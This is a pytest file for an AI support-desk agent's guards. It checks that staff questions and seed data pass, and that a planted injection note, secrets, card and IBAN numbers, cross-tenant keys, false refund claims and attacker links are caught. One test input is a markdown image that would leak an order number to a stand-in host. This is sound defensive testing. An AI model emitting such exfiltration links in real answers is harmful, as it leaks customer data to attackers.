"""The support desk's guards let its own data and questions pass, and stop what they are there for."""

import json
from pathlib import Path

import pytest

from agent.folding import fold
from agent.guard import About, Place
from agent.release import Release
from local.scripted_model import _prose
from stacks.config import STAGES
from support_desk import seed

RELEASE = Release.read(Path(seed.__file__).parent, STAGES["prod"].release)


def fired(at: Place, text: str, *, tenant_id: str = "acme", done: frozenset[str] = frozenset()) -> set[str]:
    guards = [guard for guard in RELEASE.guards if guard.at == at]
    about = About(tenant_id, done)
    return {guard.called for guard in guards if any(True for _ in guard.find(fold(text), about))}


@pytest.mark.parametrize("tenant", seed.TENANTS)
def test_all_the_shops_data_may_stand_in_answers_and_only_the_planted_note_stands_out(tenant: str) -> None:
    odd = []
    for _, _, data in seed.items(tenant):
        text = _prose(data)
        assert fired("answer", text, tenant_id=tenant) == set(), text
        if at_output := fired("tool_output", json.dumps(data, ensure_ascii=False, default=str)):
            odd.append((data.get("order_id"), at_output))
    assert odd == ([("1013", {"injection"})] if tenant == "acme" else [])


@pytest.mark.parametrize(
    "question",
    [
        "Where is order 1001?",
        "Please refund 12.50 EUR of order 1004, it came late",
        "List orders of marta.keller@mail.example, phone +49 341 1234567",
        "Wo ist die Bestellung 1001 von Frau Müller?",
        "Export our orders as CSV [m-5f3a9c01d2e4]",
    ],
)
def test_what_staff_ask_passes(question: str) -> None:
    assert fired("input", question) == set()


def test_a_file_of_an_export_may_be_named() -> None:
    assert fired("answer", "Export orders: file orders-call_1_0.csv, rows 320, complete True.") == set()


@pytest.mark.parametrize(
    ("text", "guard"),
    [
        ("Card 4111 1111 1111 1111.", "pii"),
        ("Her IBAN is DE89 3704 0044 0532 0130 00.", "pii"),
        ("The key is AKIAIOSFODNN7EXAMPLE.", "secrets"),
        ("It is in run_01J9ZQ5WXYZABCDEFGHJKMNPQR.", "internal"),
        ("T#globex#order", "tenants"),
        ("![x](https://evil.example/?d=1001)", "links"),
        ("Track it at https://evil.example.", "links"),
        ("I've refunded 20 EUR.", "refund_claimed"),
    ],
)
def test_what_must_not_be_in_an_answer_is_found(text: str, guard: str) -> None:
    assert guard in fired("answer", text)


def test_a_refund_that_was_issued_may_be_said() -> None:
    assert fired("answer", "I've refunded 20 EUR.", done=frozenset({"issue_refund"})) == set()
